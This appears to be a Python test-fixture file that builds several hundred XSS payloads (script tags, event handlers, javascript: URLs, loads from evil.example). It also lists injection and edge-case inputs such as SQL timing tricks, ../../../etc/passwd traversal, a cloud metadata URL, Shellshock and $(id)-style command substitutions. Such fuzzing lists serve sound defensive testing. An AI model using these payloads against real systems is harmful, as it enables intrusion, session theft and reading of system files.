"""Markup that would run, style, load or wake something if it were ever taken for our own: more than three hundred."""

# ruff: noqa: E501
from __future__ import annotations

BREAKOUTS = ("", '">', "'>", "</title>", "</textarea>", "--></script>", "</select></button>", "]]>")
LIVE = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script>",
    "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>", "<details open ontoggle=alert(1)>",
    "<video src onerror=alert(1)>", "<audio src onerror=alert(1)>", "<body onload=alert(1)>", "<a href=javascript:alert(1)>x",
    "<a href='java\tscript:alert(1)'>x", "<a href='data:text/html,<script>alert(1)</script>'>x",
    "<form action=javascript:alert(1)><button>x", "<button formaction=javascript:alert(1) autofocus>x",
    "<input autofocus onfocus=alert(1)>", "<marquee onstart=alert(1)>x", "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>", "<base href=//evil.example>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<img src=//evil.example/x.png>",
    "<img srcset=//evil.example/x.png>", "<video poster=//evil.example/x.png>", "<style>@import '//evil.example/x.css'</style>",
    "<p style=background:url(//evil.example/x)>x", "<div hx-get=//evil.example hx-trigger=load>x",
    "<div data-hx-get=/staff/ data-hx-trigger=load>x", "<div hx-on:click=alert(1)>x", "<div data-act=open data-href=//evil.example>x",
    "<math><mi xlink:href=javascript:alert(1)>x", "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<xss-element onclick=alert(1)>x",
    "<p id=main class=btn onanimationstart=alert(1)>x", "<scr<script>ipt>alert(1)</script>", "<img src=x onerror=alert`1`>",
)  # fmt: skip
BARE = (
    "\" onmouseover=alert(1) x=\"", "' onfocus=alert(1) autofocus x='", "` onclick=alert(1)", "javascript:alert(1)",
    "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\nscript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "vbscript:alert(1)", "//evil.example/x.png", "https://user:pw@evil.example/", "{{7*7}}", "{% debug %}", "${alert(1)}",
    "'-alert(1)-'", "\";alert(1)//", "</script><script>alert(1)</script>", "\u2028alert(1)", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;", "\\u003cimg src=x onerror=alert(1)\\u003e", "%3Cscript%3Ealert(1)%3C/script%3E",
)  # fmt: skip
PAYLOADS = [f"{out}{live}" for live in LIVE for out in BREAKOUTS] + list(BARE)
# What means something to a database, a search, a number, a date, a file or a shell.
SYNTAX = [
    'a"b', '"a" OR "b"', "NEAR(a b, 2)", "a AND", "OR", "NOT a", "title:x", "{a b}:c", "^a", "a*", "-a", "+a", "(a", "a)",
    "a:b:c", "''", "\\'", "\\\\", "%%", "%_%", "[a-z]", "a||b", "a;b", "--", "/*", "*/", "0x41", "CHAR(65)", "1=1", "1/0",
    "sleep(5)", "pg_sleep(5)", "$$a$$", "$1", ":a", "?1", "@a", "{{a}}", "{%a%}", "%(a)s", "%s", "%d", "{0}", "a\x00b", "\ud7ff",
    "\U0010ffff", "\u202e", "\u2028", "\ufeff", "\x7f", "\x1b", "\t", "\n", "\r", "\r\n\r\n", "a" * 101, "李" * 101, "😀" * 60,
    "(a+)+$", "((((((((((a))))))))))", "a?" * 40 + "a" * 40, "١٢٣", "²", "½", "１２", "1_000", "1e5", "1.0", "0x1F", "-0", "+1", "00",
    "9223372036854775808", "-9223372036854775809", "99999999999999999999", "inf", "nan", "Infinity", "1,5", "true", "TRUE", "yes",
    "2026-02-30", "2026-13-01", "0001-01-01", "9999-12-31", "10000-01-01", "-1-01-01", "2026-01-01T00:00", "26-1-1", "today",
    "12:00", "2026/01/01", "1970-01-01", "name,id", "-name", "--name", "name__password", "actor__password", "pk", "id",
    "__class__.__mro__", "connection__credentials", "raw", "constructor", "__proto__", "../../../etc/passwd", "file:///etc/passwd",
    "http://169.254.169.254/", "<!--#exec cmd=ls -->", "() { :; }", "`id`", "$(id)", "|id", "&id", "a\tb", "a%00b", "%0d%0aX: y",
]  # fmt: skip
